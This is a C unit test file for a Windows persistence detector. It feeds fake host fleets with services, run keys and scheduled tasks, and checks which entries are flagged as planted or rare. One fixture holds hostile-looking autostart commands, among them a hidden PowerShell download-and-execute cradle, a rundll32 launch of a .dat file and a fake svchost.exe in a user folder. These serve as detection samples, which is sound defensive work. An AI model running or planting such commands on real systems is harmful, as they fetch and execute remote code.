// What starts by itself on few hosts, and what is rolled out
// SPDX-License-Identifier: Apache-2.0
#include "relation_table.h"

#include "detect/autostart_text.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

extern const struct detector detector_persistence;

static const char *const HOSTS[] = {"WS-01", "WS-02", "WS-03", "WS-04", "WS-05", "WS-06",
                                    "WS-07", "WS-08", "WS-09", "WS-10", "WS-11", "WS-12"};

static struct relation_table *fleet_new(void) {
    struct relation_table *table = relation_table_new();
    for (size_t i = 0; i < ARRAY_SIZE(HOSTS); i++) {
        uint32_t host = relation_table_host(table, HOSTS[i], 0);
        table->hosts[host].has_evidence = true;
    }
    return table;
}

static void starts(struct relation_table *table, const char *host, const char *what,
                   const char *name, const char *command) {
    struct relation *row = relation_table_add(table, RELATION_PERSISTENCE, "", host, 600);
    row->artefact = slice_of_string(what);
    row->detail[0] = slice_of_string(name);
    row->detail[1] = slice_of_string(command);
}

static void file(struct relation_table *table, const char *host, const char *path,
                 const char *writer) {
    struct relation *row = relation_table_add(table, RELATION_FILE, "", host, 300);
    row->artefact = slice_of_string(path);
    row->detail[1] = slice_of_string(writer);
    row->detail[2] = SLICE("created");
}

static void series_of_services(void **state) {
    (void)state;
    struct relation_table *table = fleet_new();
    starts(table, "ws-01", "service", "mon81f2", "C:\\Windows\\mon81f2.exe");
    starts(table, "ws-02", "service", "mon0b77", "%SystemRoot%\\mon0b77.exe");
    starts(table, "ws-03", "service", "mon9c4e", "C:\\Windows\\mon9c4e.exe");
    file(table, "ws-02", "c:\\windows\\mon0b77.exe", "system");
    relation_table_judge(table, &detector_persistence);
    assert_int_equal(relation_table_count(table, "vedette-persistence-planted"), 3);
    const struct table_detection *second =
        relation_table_find(table, "vedette-persistence-planted", "WS-02");
    assert_non_null(second);
    assert_non_null(strstr(table_detection_field(second, "why"), "7 points"));
    assert_string_equal(table_detection_field(second, "artefact"), "mon0b77");
    assert_string_equal(table_detection_field(second, "series"), "\\windows\\mon#.exe");
    relation_table_free(table);
}

// A name that many hosts have, per-user services with numbers, a product's own folder, Windows.
static void rolled_out_is_not_told(void **state) {
    (void)state;
    struct relation_table *table = fleet_new();
    static const char *const users[] = {"cbdhsvc_1a2b3", "cbdhsvc_4c5d6", "cbdhsvc_7e8f9",
                                        "cbdhsvc_2b3c4", "cbdhsvc_5d6e7", "cbdhsvc_8f9a1"};
    for (size_t i = 0; i < ARRAY_SIZE(users); i++) {
        starts(table, HOSTS[i], "service", users[i],
               "C:\\Windows\\system32\\svchost.exe -k ClipboardSvcGroup -p");
        starts(table, HOSTS[i], "task", "\\Corp\\Collect", "C:\\Windows\\Temp\\collect.exe");
    }
    starts(table, "ws-01", "service", "Printer Helper", "C:\\ProgramData\\Printer\\helper.exe -s");
    starts(table, "ws-02", "service", "Backup", "\"C:\\Program Files\\Backup\\agent.exe\"");
    starts(table, "ws-03", "service", "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe");
    file(table, "ws-04",
         "c:\\programdata\\microsoft\\windows\\start menu\\programs\\startup\\c.lnk",
         "c:\\program files\\chat\\setup.exe");
    relation_table_judge(table, &detector_persistence);
    assert_int_equal(table->detection_count, 0);
    relation_table_free(table);
}

static void odd_ones(void **state) {
    (void)state;
    struct relation_table *table = fleet_new();
    starts(table, "ws-01", "run key", "HKU\\S-1-5-21-1\\Software\\Run\\Chat",
           "C:\\Users\\a\\AppData\\Roaming\\svchost.exe");
    starts(table, "ws-02", "task", "\\Update",
           "powershell.exe -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('x')\"");
    starts(table, "ws-03", "task", "\\Check", "rundll32.exe C:\\ProgramData\\a.dat,Run");
    file(table, "ws-04",
         "c:\\users\\b\\appdata\\roaming\\microsoft\\windows\\start menu\\programs"
         "\\startup\\x.vbs",
         "c:\\windows\\system32\\wscript.exe");
    // The same product elsewhere: it is software, and its writer is a setup.
    starts(table, "ws-05", "run key", "HKLM\\Software\\Run\\Notes", "C:\\ProgramData\\notes.exe");
    struct relation *row = relation_table_add(table, RELATION_SOFTWARE, "", "ws-06", 10);
    row->artefact = SLICE("notes 4.1");
    relation_table_judge(table, &detector_persistence);
    assert_non_null(relation_table_find(table, "vedette-persistence-planted", "WS-01"));
    assert_non_null(relation_table_find(table, "vedette-persistence-rare", "WS-02"));
    assert_null(relation_table_find(table, NULL, "WS-05"));
    assert_non_null(relation_table_find(table, "vedette-persistence-rare", "WS-04"));
    relation_table_free(table);
}

static void program_of_commands(void **state) {
    (void)state;
    static const char *const pairs[][2] = {
        {"\"C:\\Program Files\\A B\\c.exe\" -x", "\\program files\\a b\\c.exe"},
        {"C:\\Program Files\\A B\\c.exe -x", "\\program files\\a b\\c.exe"},
        {"\\??\\C:\\Windows\\system32\\drivers\\d.sys", "\\windows\\system32\\drivers\\d.sys"},
        {"system32\\drivers\\d.sys", "\\windows\\system32\\drivers\\d.sys"},
        {"cmd.exe /c C:\\Users\\Kim\\x.bat", "\\users\\*\\x.bat"},
        {"powershell -File \"C:\\Users\\Public\\s.ps1\" -a", "\\users\\public\\s.ps1"},
        {"%APPDATA%\\t.exe", "\\users\\*\\appdata\\roaming\\t.exe"},
        {"", ""},
        {"\"", ""},
    };
    for (size_t i = 0; i < ARRAY_SIZE(pairs); i++) {
        struct buffer text;
        buffer_init(&text, 4096);
        autostart_program(&text, slice_of_string(pairs[i][0]));
        assert_true(slice_equal_string(buffer_slice(&text), pairs[i][1]));
        buffer_done(&text);
    }
}

static void places_of_programs(void **state) {
    (void)state;
    static const struct {
        const char *program;
        enum autostart_place place;
    } rows[] = {
        {"\\programdata\\x.exe", AUTOSTART_ODD},
        {"\\programdata\\vendor\\x.exe", AUTOSTART_WRITABLE},
        {"\\programdata\\microsoft\\windows defender\\definition updates\\{1}\\mpksl1.sys",
         AUTOSTART_HOME},
        {"\\program files\\a\\b.exe", AUTOSTART_HOME},
        {"\\windows\\system32\\a.exe", AUTOSTART_SYSTEM},
        {"/opt/a/b", AUTOSTART_OTHER},
    };
    for (size_t i = 0; i < ARRAY_SIZE(rows); i++)
        assert_int_equal(autostart_place_of(slice_of_string(rows[i].program)), rows[i].place);
}

static void names_and_patterns(void **state) {
    (void)state;
    assert_true(autostart_name_is_random(SLICE("upd81f2")));
    assert_true(autostart_name_is_random(SLICE("xkqwrtzp")));
    assert_false(autostart_name_is_random(SLICE("Printer Helper 2024")));
    assert_false(autostart_name_is_random(SLICE("edgeupdate")));
    assert_false(autostart_name_is_random(SLICE("MSSQL15")));
    struct buffer text;
    buffer_init(&text, 4096);
    autostart_pattern(&text, SLICE("Upd81F2 v7 feed"));
    assert_true(slice_equal_string(buffer_slice(&text), "up# v# feed"));
    buffer_done(&text);
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(series_of_services), cmocka_unit_test(rolled_out_is_not_told),
        cmocka_unit_test(odd_ones),           cmocka_unit_test(program_of_commands),
        cmocka_unit_test(names_and_patterns), cmocka_unit_test(places_of_programs),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
